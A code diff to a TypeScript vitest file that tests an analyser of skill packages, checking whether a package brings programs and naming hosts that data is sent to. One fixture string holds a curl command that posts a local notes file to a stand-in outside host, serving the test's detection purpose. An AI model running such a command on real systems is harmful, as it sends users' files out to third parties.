@@ -1,6 +1,14 @@
 import { expect, test } from "vitest";
+import { bringsPrograms } from "../../../src/facts/programs.ts";
 import { summaryOf } from "../../../src/facts/summary.ts";
 import { deedsIn, said } from "./deeds.ts";
+
+test("programs of which nothing else is known are said: they are not text alone", () => {
+  const readMe = { path: "SKILL.md", text: "# A skill\n" };
+  expect(bringsPrograms([readMe])).toBe(false);
+  expect(bringsPrograms([readMe, { path: "scripts/a.py", text: "print(1)\n" }])).toBe(true);
+  expect([summaryOf([]).text, summaryOf([], true).text]).toEqual(["Text alone", "Brings programs"]);
+});
 
 test("a host that something is sent to is named once", () => {
   const script = "curl -d @notes.txt https://collect.sample.dev\ncurl -s https://api.sample.dev/x\n";
